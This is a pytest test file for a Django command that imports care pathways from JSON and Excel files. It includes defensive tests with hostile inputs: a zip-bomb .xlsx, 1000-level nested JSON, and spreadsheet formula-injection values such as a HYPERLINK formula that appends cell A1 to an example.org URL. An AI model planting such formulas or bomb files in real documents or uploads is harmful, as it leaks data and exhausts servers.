"""`kansrijk import-pathways`: JSON and .xlsx, all or nothing, idempotent by key."""

from __future__ import annotations

import io
import json
import zipfile
from pathlib import Path
from typing import Any

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from openpyxl import load_workbook

from kansrijk.audit.models import AccessEvent
from kansrijk.pathways.importing import ImportFailed, import_pathways
from kansrijk.pathways.models import Pathway, PathwayStep, PathwayVersion, StepKind
from kansrijk.pathways.resolution import resolve_pathway
from kansrijk.pathways.template import build_template

pytestmark = pytest.mark.django_db


def document(service_name: str = "Schuldhulp Smallingerland", **changes: Any) -> dict[str, Any]:
    pathway = {
        "key": "smallingerland-geldzorgen",
        "coalition": "Kansrijke Start Smallingerland",
        "situation": "geldzorgen",
        "scope": "gemeentelijk",
        "municipalities": ["GM0090"],
        "phases": ["pregnancy", "postnatal"],
        "title": "Geldzorgen in Smallingerland",
        "introduction": "Voor (aanstaande) ouders met geldzorgen.",
        "last_reviewed": "2026-01-15",
        "steps": [
            {"kind": "bespreken", "title": "Bespreek de geldzorgen", "tips": "Lukt het rondkomen?"},
            {"kind": "toestemming", "title": "Vraag toestemming"},
            {"kind": "verwijzen", "title": "Verwijs naar de schuldhulp", "service": service_name},
            {
                "kind": "veiligheid",
                "title": "Bij acuut gevaar: Veilig Thuis",
                "text": "Bel 0800-2000.",
            },
        ],
    }
    pathway.update(changes)
    return {"pathways": [pathway]}


def write_json(tmp_path: Path, data: Any, name: str = "zorgpaden.json") -> Path:
    path = tmp_path / name
    path.write_text(json.dumps(data), encoding="utf-8")
    return path


def snapshot() -> tuple[int, int, int]:
    return (Pathway.objects.count(), PathwayVersion.objects.count(), PathwayStep.objects.count())


def test_a_json_file_imports_and_publishes(tmp_path, smallingerland, service, time_machine):
    time_machine.move_to("2026-02-01 10:00 +01:00")
    result = import_pathways(write_json(tmp_path, document()))
    assert (result.created, result.published) == (1, 1)
    pathway = Pathway.objects.get(external_key="smallingerland-geldzorgen")
    assert pathway.phases == ["pregnancy", "postnatal"]
    assert str(pathway.last_reviewed_on) == "2026-01-15"
    resolved = resolve_pathway(municipality="GM0090", situation="geldzorgen", phase="postnatal")
    assert resolved is not None
    assert resolved.fallback is None
    steps = resolved.version.ordered_steps
    assert steps[0].kind == StepKind.URGENT_SAFETY
    assert [s.service for s in steps if s.kind == StepKind.REFER] == [service]
    assert AccessEvent.objects.filter(event_type="pathways.import").count() == 1


def test_reimporting_the_same_file_changes_nothing(tmp_path, smallingerland, service):
    path = write_json(tmp_path, document())
    import_pathways(path)
    before = snapshot()
    result = import_pathways(path)
    assert (result.created, result.updated, result.unchanged, result.published) == (0, 0, 1, 0)
    assert snapshot() == before


def test_a_changed_file_adds_a_version_and_keeps_the_old_one(tmp_path, smallingerland, service):
    import_pathways(write_json(tmp_path, document()))
    changed = document(title="Geldzorgen (herzien)", change_note="Titel")
    result = import_pathways(write_json(tmp_path, changed))
    assert (result.updated, result.published) == (1, 1)
    pathway = Pathway.objects.get()
    assert pathway.current_version.number == 2
    assert pathway.current_version.title == "Geldzorgen (herzien)"
    assert pathway.versions.get(number=1).title == "Geldzorgen in Smallingerland"
    # Steps kept their keys, so a comparison shows no step changes.
    assert set(pathway.versions.get(number=1).steps.values_list("key", flat=True)) == set(
        pathway.versions.get(number=2).steps.values_list("key", flat=True)
    )


def test_publish_no_keeps_a_draft(tmp_path, smallingerland, service):
    result = import_pathways(write_json(tmp_path, document(publish=False)))
    assert (result.created, result.drafts, result.published) == (1, 1, 0)
    assert Pathway.objects.get().current_version is None


def test_a_bad_file_writes_nothing_and_reports_every_row(tmp_path, smallingerland, service):
    data = document()
    bad = dict(data["pathways"][0])
    bad.update(
        {
            "key": "rotterdam",
            "coalition": "Bestaat niet",
            "situation": "onbekend",
            "phases": ["later"],
            "steps": [
                {"kind": "dansen", "title": ""},
                {"kind": "verwijzen", "title": "Verwijs", "service": "Nergens"},
            ],
        }
    )
    data["pathways"].append(bad)
    data["pathways"].append(dict(data["pathways"][0]))  # a duplicate key
    path = write_json(tmp_path, data)
    with pytest.raises(ImportFailed) as failure:
        import_pathways(path)
    problems = {(p.sheet, p.row, p.field) for p in failure.value.problems}
    assert ("pathways", 2, "coalition") in problems
    assert ("pathways", 2, "situation") in problems
    assert ("pathways", 2, "phases") in problems
    assert ("pathways[2].steps", 1, "kind") in problems
    assert ("pathways[2].steps", 1, "title") in problems
    assert ("pathways[2].steps", 2, "service") in problems
    assert ("pathways", 3, "key") in problems
    assert all(p.file == "zorgpaden.json" and p.reason for p in failure.value.problems)
    assert snapshot() == (0, 0, 0)
    assert not AccessEvent.objects.filter(event_type="pathways.import").exists()


def test_rule_errors_are_reported_per_row_too(tmp_path, smallingerland, service):
    data = document(municipalities=["GM0599"])  # Rotterdam is not in the coalition
    data["pathways"][0]["steps"][2]["service"] = ""
    with pytest.raises(ImportFailed) as failure:
        import_pathways(write_json(tmp_path, data))
    problems = {(p.sheet, p.row, p.field) for p in failure.value.problems}
    assert ("pathways", 1, "municipalities") in problems
    assert snapshot() == (0, 0, 0)
    # A refer step without a service cannot be published.
    data = document()
    data["pathways"][0]["steps"][2]["service"] = ""
    with pytest.raises(ImportFailed) as failure:
        import_pathways(write_json(tmp_path, data))
    assert [(p.sheet, p.row, p.field) for p in failure.value.problems] == [
        ("pathways[1].steps", 3, "service")
    ]


def test_the_command_prints_the_report_and_exits_non_zero(tmp_path, smallingerland, service):
    path = write_json(tmp_path, document(situation="onbekend"))
    err = io.StringIO()
    with pytest.raises(CommandError, match="nothing was imported"):
        call_command("import_pathways", str(path), stderr=err)
    assert "zorgpaden.json, pathways, rij 1, situation: " in err.getvalue()
    out = io.StringIO()
    call_command("import_pathways", str(write_json(tmp_path, document())), "--dry-run", stdout=out)
    assert "Dry run" in out.getvalue()
    assert not Pathway.objects.exists()
    call_command("import_pathways", str(write_json(tmp_path, document())), stdout=out)
    assert Pathway.objects.count() == 1
    for bad in (tmp_path / "missing.json", write_json(tmp_path, "{", "broken.txt")):
        with pytest.raises(CommandError):
            call_command("import_pathways", str(bad), stderr=io.StringIO())


def fill_template(content: bytes, rows: list[list[Any]], steps: list[list[Any]]) -> bytes:
    workbook = load_workbook(io.BytesIO(content))
    for row in rows:
        workbook["Zorgpaden"].append(row)
    for row in steps:
        workbook["Stappen"].append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


PATHWAY_ROW = [
    "smallingerland-geldzorgen",
    "Kansrijke Start Smallingerland",
    "geldzorgen",
    "gemeentelijk",
    "GM0090",
    "zwangerschap, na de geboorte",
    "Geldzorgen in Smallingerland",
    "Voor ouders met geldzorgen.",
    None,
    None,
    "ja",
    None,
]


def test_the_template_round_trips_through_the_importer(tmp_path, smallingerland, service):
    content = fill_template(
        build_template(),
        [PATHWAY_ROW],
        [
            ["smallingerland-geldzorgen", 2, "verwijzen", "Verwijs", None, None, str(service.pk)],
            [
                "smallingerland-geldzorgen",
                1,
                "bespreken",
                "Bespreek",
                "Vraag door.",
                "Open vragen",
                None,
            ],
        ],
    )
    path = tmp_path / "zorgpaden.xlsx"
    path.write_bytes(content)
    result = import_pathways(path)
    assert (result.created, result.published) == (1, 1)
    version = Pathway.objects.get().current_version
    assert [(s.position, s.kind, s.service_id) for s in version.steps.order_by("position")] == [
        (1, StepKind.DISCUSS, None),
        (2, StepKind.REFER, service.pk),
    ]
    before = snapshot()
    assert import_pathways(path).unchanged == 1
    assert snapshot() == before


def _with_cached_results(content: bytes, results: dict[str, str]) -> bytes:
    """The workbook as a spreadsheet program saves it: each formula with the text it last
    computed (openpyxl writes formulas without one)."""
    source = zipfile.ZipFile(io.BytesIO(content))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename.startswith("xl/worksheets/"):
                text = data.decode()
                for formula, result in results.items():
                    text = text.replace(
                        f'<c r="{formula}"><f>', f'<c r="{formula}" t="str"><f>'
                    ).replace("</f><v /></c>", f"</f><v>{result}</v></c>", 1)
                data = text.encode()
            target.writestr(item, data)
    return buffer.getvalue()


def test_a_formula_cell_is_imported_as_its_result_with_a_warning(tmp_path, smallingerland, service):
    """A cell that is a live formula (typed in Excel as =HYPERLINK(…)) is read as the value the
    spreadsheet program last computed, never as the formula, and flagged like a text that
    starts with '=' (issue 12, point 6: formulas flagged on import)."""
    content = fill_template(
        build_template(),
        [PATHWAY_ROW],
        [
            [
                "smallingerland-geldzorgen",
                1,
                "bespreken",
                '=HYPERLINK("https://example.org","Bespreek geldzorgen")',
                None,
                None,
                None,
            ]
        ],
    )
    path = tmp_path / "zorgpaden.xlsx"
    path.write_bytes(_with_cached_results(content, {"D2": "Bespreek geldzorgen"}))
    out, err = io.StringIO(), io.StringIO()
    call_command("import_pathways", str(path), stdout=out, stderr=err)
    warnings = err.getvalue().splitlines()
    assert len(warnings) == 1
    assert warnings[0].startswith("warning: zorgpaden.xlsx, Stappen, rij 2, titel: ")
    assert "formule" in warnings[0]
    step = Pathway.objects.get().current_version.steps.get()
    assert step.title == "Bespreek geldzorgen"


def test_a_bad_xlsx_reports_sheet_row_and_column(tmp_path, smallingerland, service):
    row = list(PATHWAY_ROW)
    row[4] = "GM9999"
    content = fill_template(
        build_template(),
        [row],
        [
            ["smallingerland-geldzorgen", "een", "bespreken", "Bespreek", None, None, None],
            ["ander-pad", 1, "bespreken", "Bespreek", None, None, None],
            [None, 1, "bespreken", "Bespreek", None, None, None],
        ],
    )
    path = tmp_path / "zorgpaden.xlsx"
    path.write_bytes(content)
    with pytest.raises(ImportFailed) as failure:
        import_pathways(path)
    problems = {(p.sheet, p.row, p.field) for p in failure.value.problems}
    assert problems == {
        ("Zorgpaden", 2, "gemeenten"),
        ("Stappen", 2, "volgorde"),
        ("Stappen", 3, "zorgpad"),
        ("Stappen", 4, "zorgpad"),
    }
    reasons = {p.row: p.reason for p in failure.value.problems if p.field == "zorgpad"}
    assert reasons == {
        3: "Geen zorgpad met sleutel 'ander-pad' op het blad Zorgpaden.",
        4: "Vul de sleutel van het zorgpad in.",
    }
    assert snapshot() == (0, 0, 0)


def test_an_xlsx_without_the_sheets_or_columns(tmp_path, catalogue):
    from openpyxl import Workbook

    workbook = Workbook()
    workbook.active.title = "Iets"
    path = tmp_path / "leeg.xlsx"
    workbook.save(path)
    with pytest.raises(ImportFailed) as failure:
        import_pathways(path)
    assert {p.sheet for p in failure.value.problems} == {"Zorgpaden", "Stappen"}
    workbook = load_workbook(io.BytesIO(build_template()))
    workbook["Zorgpaden"].delete_cols(3)  # situatie
    workbook.save(path)
    with pytest.raises(ImportFailed) as failure:
        import_pathways(path)
    assert [(p.sheet, p.field) for p in failure.value.problems] == [("Zorgpaden", "situatie")]


def test_regional_and_national_rows(tmp_path, catalogue):
    from kansrijk.coalitions.models import CoalitionScope
    from tests.pathways.conftest import make_coalition

    make_coalition("Regio Fryslân", ["GM0090", "GM0086", "GM0080"], scope=CoalitionScope.REGIONAL)
    make_coalition("Landelijk", [], scope=CoalitionScope.NATIONAL)
    data = {
        "pathways": [
            {
                "key": "fryslan-roken",
                "coalition": "Regio Fryslân",
                "situation": "roken",
                "scope": "regionaal",
                "municipalities": "GM0090, GM0086; Leeuwarden",
                "phases": "pregnancy",
                "title": "Roken in Fryslân",
                "steps": [{"kind": "discuss", "title": "Bespreek roken"}],
            },
            {
                "key": "nl-roken",
                "coalition": "Landelijk",
                "situation": "roken",
                "scope": "landelijk",
                "phases": ["pregnancy"],
                "title": "Roken (landelijk)",
                "steps": [
                    {
                        "kind": "refer",
                        "title": "Verwijs",
                        "text": "Naar een stoppen-met-rokencoach in de buurt.",
                    }
                ],
            },
        ]
    }
    import_pathways(write_json(tmp_path, data))
    assert (
        resolve_pathway(municipality="GM0080", situation="roken", phase="pregnancy").fallback
        == "regional"
    )
    assert (
        resolve_pathway(municipality="GM0599", situation="roken", phase="pregnancy").fallback
        == "national"
    )


def test_the_template_writes_coalition_names_as_text_not_formulas(catalogue):
    from tests.pathways.conftest import make_coalition

    name = '=HYPERLINK("https://example.org/?"&A1,"klik")'
    make_coalition(name, ["GM0090"])
    content = build_template()
    lists = load_workbook(io.BytesIO(content))["Keuzelijsten"]
    column = next(c.column for c in lists[1] if c.value == "coalitie")
    cell = lists.cell(row=2, column=column)
    assert (cell.value, cell.data_type, cell.quotePrefix) == (name, "s", True)


# --- Limits and formulas (issue 12, point 6) ------------------------------------------------------


def _xlsx_with_a_huge_cell(path: Path, characters: int) -> None:
    """The template with one inline-string cell of ``characters`` characters in the Zorgpaden
    sheet, written straight into the archive in chunks (a few hundred KB compressed)."""
    import zipfile

    template = zipfile.ZipFile(io.BytesIO(build_template()))
    sheet_names = load_workbook(io.BytesIO(build_template()), read_only=True).sheetnames
    target = f"xl/worksheets/sheet{sheet_names.index('Zorgpaden') + 1}.xml"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for item in template.infolist():
            if item.filename != target:
                archive.writestr(item, template.read(item.filename))
                continue
            head, _, tail = template.read(target).decode().partition("</sheetData>")
            with archive.open(target, "w", force_zip64=True) as handle:
                handle.write(head.encode())
                handle.write(b'<row r="2"><c r="G2" t="inlineStr"><is><t>')
                chunk = b"x" * (1024 * 1024)
                for _ in range(characters // len(chunk)):
                    handle.write(chunk)
                handle.write(b"</t></is></c></row></sheetData>" + tail.encode())


def test_an_xlsx_that_unpacks_too_large_is_refused_before_it_is_read(tmp_path, catalogue):
    """A few hundred KB on disk, 120 MB unpacked: refused from the archive's directory, without
    the memory that reading it would take (3.1 GB for a 400 MB cell before the limit)."""
    import tracemalloc

    path = tmp_path / "bom.xlsx"
    _xlsx_with_a_huge_cell(path, 120 * 1024 * 1024)
    assert path.stat().st_size < 1024 * 1024
    tracemalloc.start()
    try:
        with pytest.raises(ImportFailed) as failure:
            import_pathways(path)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 20 * 1024 * 1024
    [problem] = failure.value.problems
    assert problem.reason.startswith("The Excel file unpacks to 120 MB (xl/worksheets/sheet")
    assert "at most 50 MB can be imported (IMPORT_MAX_XLSX_UNPACKED_MB)" in problem.reason
    assert snapshot() == (0, 0, 0)


def test_a_cell_over_the_length_limit_is_named_by_sheet_row_and_column(
    tmp_path, smallingerland, service, settings
):
    settings.IMPORT_MAX_FIELD_CHARS = 5000
    row = list(PATHWAY_ROW)
    row[6] = "x" * 6000  # titel
    content = fill_template(
        build_template(), [row], [["smallingerland-geldzorgen", 1, "bespreken", "B", None, None]]
    )
    path = tmp_path / "zorgpaden.xlsx"
    path.write_bytes(content)
    with pytest.raises(ImportFailed) as failure:
        import_pathways(path)
    assert [str(p) for p in failure.value.problems] == [
        "zorgpaden.xlsx, Zorgpaden, rij 2, titel: This value is 6000 characters long; at most "
        "5000 are imported (IMPORT_MAX_FIELD_CHARS)."
    ]
    assert snapshot() == (0, 0, 0)


def test_a_json_file_nested_a_thousand_levels_gives_a_message(tmp_path, catalogue):
    path = tmp_path / "diep.json"
    path.write_text('{"pathways": ' + "[" * 1000 + "]" * 1000 + "}", encoding="utf-8")
    with pytest.raises(ImportFailed) as failure:
        import_pathways(path)
    assert [p.reason for p in failure.value.problems] == [
        "The JSON is nested more than 64 levels deep (IMPORT_MAX_JSON_DEPTH); no import file "
        "needs that."
    ]
    err = io.StringIO()
    with pytest.raises(CommandError):
        call_command("import_pathways", str(path), stderr=err)
    assert "Traceback" not in err.getvalue()


def test_a_file_over_the_size_limit_is_refused(tmp_path, catalogue, settings):
    settings.IMPORT_MAX_FILE_MB = 1
    path = write_json(tmp_path, document(introduction="x" * (1024 * 1024)))
    with pytest.raises(ImportFailed) as failure:
        import_pathways(path)
    assert failure.value.problems[0].reason.startswith("The file is 1.0 MB; at most 1.0 MB")


def test_formula_like_values_are_imported_as_text_with_a_warning(tmp_path, smallingerland, service):
    title = '=HYPERLINK("https://example.org","Geldzorgen")'
    steps = document()["pathways"][0]["steps"]
    steps[0]["tips"] = "-5 euro per week is al veel"
    path = write_json(tmp_path, document(title=title, steps=steps))
    out, err = io.StringIO(), io.StringIO()
    call_command("import_pathways", str(path), stdout=out, stderr=err)
    assert err.getvalue().splitlines() == [
        "warning: zorgpaden.json, pathways, rij 1, title: Starts with '=', so a spreadsheet "
        "program would run it as a formula. It is imported and shown as text, and written as "
        "text in every export; check that it is what you meant.",
        "warning: zorgpaden.json, pathways[1].steps, rij 1, tips: Starts with '-', so a "
        "spreadsheet program would run it as a formula. It is imported and shown as text, and "
        "written as text in every export; check that it is what you meant.",
    ]
    assert Pathway.objects.get().current_version.title == title
